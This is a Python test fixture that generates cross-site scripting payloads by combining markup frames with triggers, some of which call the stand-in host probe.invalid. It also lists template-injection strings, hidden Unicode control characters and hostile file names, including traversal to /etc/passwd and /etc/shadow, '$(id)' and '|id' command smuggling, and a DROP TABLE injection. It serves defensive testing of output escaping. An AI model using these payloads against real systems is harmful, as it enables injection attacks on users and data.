"""What somebody might write to attack whoever reads it (CHECKS T36 to T38).

Made and not copied: every way into markup we could think of, each with every trigger. One that
worked would run ``pwned()``, open a dialog, ask for an address at ``probe.invalid``, or leave an
element behind.
"""

from itertools import product

_TRIGGERS = ("pwned()", "alert(1)", "fetch('//probe.invalid/x')", "location='//probe.invalid/'")
_FRAMES = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script/x>{}</script >",
    "<<script>{}//<</script>",
    "</textarea><script>{}</script>",
    "</title></style></script><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "</p></li></ol></main><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "`><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<img/src=`x`onerror={}>",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    '" autofocus onfocus={} x="',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<math><mi xlink:href="javascript:{}">x</mi></math>',
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    '<iframe src="javascript:{}"></iframe>',
    '<object data="javascript:{}"></object>',
    '<embed src="javascript:{}">',
    '<a href="javascript:{}">x</a>',
    '<a href="java\tscript:{}">x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<button formaction="javascript:{}">x</button>',
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}></select>",
    "<template><script>{}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={}>">',
    "<style>@import '//probe.invalid/';</style><p onclick={}>",
    "<link rel=stylesheet href=//probe.invalid/ onload={}>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "＜script＞{}＜/script＞",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "${{{}}}",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
)
_PLAIN = (
    "<meta http-equiv=refresh content='0;url=//probe.invalid/'>",
    "<base href=//probe.invalid/>",
    "<img src=//probe.invalid/i>",
    "<link rel=icon href=//probe.invalid/>",
    "http://probe.invalid/ and www.probe.invalid and ann@probe.invalid",
    "[x](http://probe.invalid/) ![x](//probe.invalid/i)",
    "{{ config }} {{ ''.__class__.__mro__ }} {% include 'unlock.html' %}",
    "</html>",
)
HIDDEN = (
    "\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f", "\u061c",
    "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u115f", "\u3164",
    "\x1b", "\x07", "\x08", "\x7f", "\x9b", "\x85", "\u2028", "\u2029", "\ufe0f", "\U000e0041",
)  # fmt: skip
"""Characters that hide, steer or turn round what stands beside them."""

PAYLOADS = tuple(
    frame.format(trigger) for frame, trigger in product(_FRAMES, _TRIGGERS)
) + _PLAIN  # fmt: skip
FILE_NAMES = (
    "../../../etc/passwd", "..\\..\\x", "/etc/shadow", "C:\\x.exe", "a\nb.txt", "%2e%2e%2fx",
    "w" * 250 + ".txt", "\u202egpj.exe", "con", "NUL.txt", "-rf", ".bashrc", "<img src=x>.svg",
    "a/b", "...", " ", "x\u200b.pdf", "'; DROP TABLE x; --", "$(id).sh", "|id",
)  # fmt: skip
